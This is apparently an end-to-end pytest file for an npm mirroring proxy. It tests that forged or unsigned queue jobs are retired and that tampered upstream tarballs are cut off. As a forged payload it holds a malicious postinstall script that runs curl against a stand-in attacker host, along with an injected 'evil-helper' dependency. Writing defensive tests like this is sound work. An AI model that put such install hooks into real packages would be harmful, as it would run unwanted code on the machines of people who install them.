"""The queue is not trusted and public bytes are checked on the way through (issue 14).

The sidecar pod (`mirrorgate serve --no-worker` and `mirrorgate worker`, two processes) over SQS
(moto) and Pub/Sub (the emulator), with real Verdaccio behind a publish gate that counts PUTs.
The attacks:

- anyone with send rights on the queue writes jobs in the v1 format: a version public does not
  list pointing at another package's tarball, a version the rules deny, and a real version
  with a manifest carrying an injected `postinstall` and dependency. Each is retired with its
  reason and a security line, nothing is fetched or published, and a real pull still mirrors;
- with `MIRRORGATE_JOB_KEY`, an unsigned job and a job signed with another key are retired
  before any request leaves for them, while the worker rotates keys (it holds the new key and
  the previous one; the proxy still signs with the previous);
- a client that hangs up right after the headers makes no job;
- a public upstream serving other bytes for an admitted version: the proxy cuts the transfer
  before its last chunk, the real npm client fails, and nothing is enqueued.
"""

from __future__ import annotations

import dataclasses
import http.client
import random
from collections.abc import Mapping
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from mirrorgate.config import Secret
from mirrorgate.jobsign import JobCodec
from mirrorgate.mirror import MirrorJob, encode_job
from tests.e2e.sidecar import PublishGate, registry_environment, start_sidecar
from tests.faults.transfers import fetch
from tests.faults.worker_jobs import admitted_job, logged
from tests.servers.fixture_registry import Fault, FixtureRegistry
from tests.servers.fixtures import MirrorgateFactory
from tests.servers.npm import NpmClient
from tests.servers.packages import (
    install_script_version,
    make_package,
    tarball_filename,
    tarball_path,
)
from tests.servers.processes import MirrorgateProcess, wait_for
from tests.servers.pubsub_server import PubSubAdmin
from tests.servers.sqs_server import SqsServer
from tests.servers.streamed import STREAMED as RELEASE_OFF
from tests.servers.verdaccio import Verdaccio

INJECTED = {"postinstall": "node -e \"require('child_process').exec('curl attacker.invalid')\""}
RULES = "[install_scripts]\nblock = true\n"
STREAMED = "[deny]\npackages = []\n" + RELEASE_OFF
"""For the streaming cases: with the install-scripts rule or the release signals on, a tarball
of at most 16 MiB is withheld until their verdict (docs/serving.md#a-refusal-from-the-bytes),
so nothing would stream to hang up on or to cut."""
KEY_OLD = "k1-" + "a" * 40
KEY_NEW = "k2-" + "b" * 40
KEY_FOREIGN = "k3-" + "c" * 40


async def send_raw(queue_backend: str, env: Mapping[str, str], request: pytest.FixtureRequest,
                   *bodies: bytes) -> None:
    """Write bodies onto the pod's queue as a foreign producer with send rights would."""
    if queue_backend == "sqs":
        server: SqsServer = request.getfixturevalue("sqs_server")
        async with server.client() as sqs:
            for body in bodies:
                await sqs.send_message(QueueUrl=env["MIRROR_SQS_QUEUE_URL"],
                                       MessageBody=body.decode("utf-8"))
        return
    admin = PubSubAdmin(request.getfixturevalue("pubsub_emulator"))
    try:
        await admin.publish_raw(env["MIRROR_PUBSUB_TOPIC"], *bodies)
    finally:
        await admin.close()


def pod_environment(public: FixtureRegistry, verdaccio: Verdaccio, gate: PublishGate,
                    queue: Mapping[str, str], tmp_path: Path,
                    rules_text: str = RULES) -> dict[str, str]:
    rules = tmp_path / "rules.toml"
    rules.write_text(rules_text, encoding="utf-8")
    return {**registry_environment(public, verdaccio, gate), **queue,
            "MIRRORGATE_RULES_FILE": str(rules)}


def forged(job: MirrorJob, **manifest: Any) -> MirrorJob:
    return dataclasses.replace(job, manifest={**job.manifest, **manifest})


def tarball_requests(public: FixtureRegistry, name: str) -> list[str]:
    return [seen.path for seen in public.requests if seen.path.startswith(f"/{name}/-/")]


def assert_key_never_logged(*processes: MirrorgateProcess) -> None:
    for process in processes:
        text = process.stderr()
        for key in (KEY_OLD, KEY_NEW):
            assert key not in text, f"mirrorgate {process.command} logged a job key"


async def test_forged_jobs_are_retired_with_their_reason_and_a_real_pull_still_mirrors(
    queue_backend: str, queue_environment: dict[str, str], public_registry: FixtureRegistry,
    verdaccio: Verdaccio, gate: PublishGate, npm_client: NpmClient,
    mirrorgate: MirrorgateFactory, tmp_path: Path, request: pytest.FixtureRequest,
) -> None:
    public_registry.add(make_package("acme-utils", ["1.0.0"]),
                        make_package("left-pad", ["1.3.0"]),
                        make_package("scripted", [install_script_version("scripted", "1.0.0")]),
                        make_package("real-one", ["1.0.0"]))
    env = pod_environment(public_registry, verdaccio, gate, queue_environment, tmp_path)
    pod = start_sidecar(mirrorgate, env)
    other = admitted_job(public_registry, "left-pad", "1.3.0")
    impostor = MirrorJob("acme-utils", "99.0.0", dataclasses.replace(
        other.artifact, filename=tarball_filename("acme-utils", "99.0.0")),
        {**other.manifest, "name": "acme-utils", "version": "99.0.0", "scripts": INJECTED})
    denied = admitted_job(public_registry, "scripted", "1.0.0")
    injected = forged(other, scripts=INJECTED, dependencies={"evil-helper": "^1.0.0"})

    await send_raw(queue_backend, env, request,
                   *(encode_job(job) for job in (impostor, denied, injected)))
    npm_client.write_project({"real-one": "1.0.0"})
    done = npm_client.install(registry=pod.proxy.registry_url)

    assert done.returncode == 0, done.stderr
    wait_for(lambda: pod.worker.metric("mirrorgate_jobs_total", outcome="published") == 1,
             timeout=30, message="the real pull to be mirrored")
    wait_for(lambda: pod.worker.metric("mirrorgate_jobs_total", outcome="retired") == 3,
             timeout=30, message="the three forged jobs to be retired")
    for reason in ("public-missing", "denied", "manifest-mismatch"):
        assert pod.worker.metric("mirrorgate_jobs_retired_total", reason=reason) == 1, reason
    refused = {line["package"]: line for line in logged(pod.worker, "mirror_job_refused", 3)}
    assert {name: line["reason"] for name, line in refused.items()} == {
        "acme-utils": "public-missing", "scripted": "denied", "left-pad": "manifest-mismatch"}
    assert all(line["security"] is True and line["level"] == "critical"
               for line in refused.values())
    assert refused["scripted"]["rule"] == "install-scripts"
    assert refused["left-pad"]["fields"] == ["dependencies", "scripts"]
    assert gate.stored_publishes() == 1, gate.publishes
    assert verdaccio.versions("real-one") == ["1.0.0"]
    for name in ("acme-utils", "scripted", "left-pad"):
        assert verdaccio.versions(name) == [], name
        assert tarball_requests(public_registry, name) == [], name


async def test_with_a_job_key_unsigned_and_wrongly_signed_jobs_are_retired_before_any_request(
    queue_backend: str, queue_environment: dict[str, str], public_registry: FixtureRegistry,
    verdaccio: Verdaccio, gate: PublishGate, npm_client: NpmClient,
    mirrorgate: MirrorgateFactory, tmp_path: Path, request: pytest.FixtureRequest,
) -> None:
    public_registry.add(make_package("left-pad", ["1.3.0"]), make_package("real-one", ["1.0.0"]),
                        make_package("signed-new", ["1.0.0"]))
    env = pod_environment(public_registry, verdaccio, gate, queue_environment, tmp_path)
    # mid-rotation: the worker already holds the new key and still accepts the previous one,
    # which the proxy still signs with
    proxy = mirrorgate("serve --no-worker", {**env, "MIRRORGATE_JOB_KEY": KEY_OLD})
    key_file = tmp_path / "job-key"
    key_file.write_text(KEY_NEW + "\n", encoding="utf-8")
    worker = mirrorgate("worker", {**env, "MIRRORGATE_JOB_KEY_FILE": str(key_file),
                                   "MIRRORGATE_JOB_KEY_PREVIOUS": KEY_OLD})
    real = encode_job(admitted_job(public_registry, "left-pad", "1.3.0"))
    current = JobCodec(Secret(KEY_NEW)).seal(
        encode_job(admitted_job(public_registry, "signed-new", "1.0.0")))

    await send_raw(queue_backend, env, request, real, JobCodec(Secret(KEY_FOREIGN)).seal(real),
                   current)
    npm_client.write_project({"real-one": "1.0.0"})
    done = npm_client.install(registry=proxy.registry_url)

    assert done.returncode == 0, done.stderr
    wait_for(lambda: worker.metric("mirrorgate_jobs_total", outcome="published") == 2,
             timeout=30, message="the jobs signed with the new and the previous key to publish")
    wait_for(lambda: worker.metric("mirrorgate_jobs_total", outcome="retired") == 2,
             timeout=30, message="the unsigned and the wrongly signed job to be retired")
    assert worker.metric("mirrorgate_jobs_retired_total", reason="unsigned") == 1
    assert worker.metric("mirrorgate_jobs_retired_total", reason="bad-signature") == 1
    lines = logged(worker, "mirror_job_refused", 2)
    assert sorted(line["reason"] for line in lines) == ["bad-signature", "unsigned"]
    assert all(line["security"] is True for line in lines)
    # retired as received: not even the packument was asked for
    assert [seen.path for seen in public_registry.requests
            if seen.path.startswith("/left-pad")] == []
    assert verdaccio.versions("left-pad") == []
    assert verdaccio.versions("real-one") == ["1.0.0"]
    assert verdaccio.versions("signed-new") == ["1.0.0"]
    assert_key_never_logged(proxy, worker)


def big_package(name: str) -> Any:
    blob = random.Random(name).randbytes(300_000)
    return make_package(name, ["1.0.0"], files={"index.js": b"module.exports = 1;\n",
                                                "blob.bin": blob})


def test_a_client_that_hangs_up_after_the_headers_causes_no_job(
    queue_environment: dict[str, str], public_registry: FixtureRegistry, verdaccio: Verdaccio,
    gate: PublishGate, mirrorgate: MirrorgateFactory, tmp_path: Path,
) -> None:
    package = big_package("hung-up")
    public_registry.add(package)
    public_registry.fault(tarball_path("hung-up", "1.0.0"),
                          Fault(chunk_size=4096, chunk_delay=0.05))
    pod = start_sidecar(mirrorgate, pod_environment(public_registry, verdaccio, gate,
                                                     queue_environment, tmp_path, STREAMED))
    address = urlsplit(pod.proxy.url)
    connection = http.client.HTTPConnection(address.hostname or "", address.port, timeout=10)
    connection.request("GET", "/npm" + tarball_path("hung-up", "1.0.0"))
    response = connection.getresponse()
    assert response.status == 200
    connection.close()  # gone, with nearly all of the body still to come

    wait_for(lambda: pod.proxy.events("tarball_client_gone"), timeout=30,
             message="the proxy to notice the client left")
    assert pod.proxy.metric("mirrorgate_jobs_enqueued_total") == 0
    assert pod.proxy.metric("mirrorgate_requests_total", route="tarball",
                            status="client_gone") == 1
    assert pod.worker.metric("mirrorgate_jobs_total") == 0
    assert gate.publishes == []


def test_a_tampering_public_upstream_is_cut_before_the_last_chunk_and_npm_fails(
    queue_environment: dict[str, str], public_registry: FixtureRegistry, verdaccio: Verdaccio,
    gate: PublishGate, npm_client: NpmClient, mirrorgate: MirrorgateFactory, tmp_path: Path,
) -> None:
    package = big_package("swapped")
    real = package.versions["1.0.0"].tarball
    evil = real[:-5000] + bytes(5000)  # same length, the end replaced
    public_registry.add(package)
    public_registry.fault(tarball_path("swapped", "1.0.0"), Fault(body=evil, chunk_size=65536))
    pod = start_sidecar(mirrorgate, pod_environment(public_registry, verdaccio, gate,
                                                     queue_environment, tmp_path, STREAMED))

    seen = fetch(pod.proxy.registry_url.rstrip("/") + tarball_path("swapped", "1.0.0"))
    npm_client.write_project({"swapped": "1.0.0"})
    done = npm_client.install(registry=pod.proxy.registry_url)

    assert seen.status == 200
    assert seen.promised == len(evil)
    assert seen.cut_short
    assert 0 < len(seen.received) < len(evil)
    assert evil.startswith(seen.received)
    assert done.returncode != 0
    assert "swapped" not in npm_client.installed()
    lines = logged(pod.proxy, "tarball_digest_mismatch", 2)
    assert all(line["security"] is True for line in lines)
    assert lines[0]["expected"] == package.versions["1.0.0"].integrity
    assert lines[0]["withheld"] == len(evil) - len(seen.received)
    assert pod.proxy.metric("mirrorgate_tampered_total") == len(lines)
    assert pod.proxy.metric("mirrorgate_jobs_enqueued_total") == 0
    assert pod.worker.metric("mirrorgate_jobs_total") == 0
    assert verdaccio.versions("swapped") == []
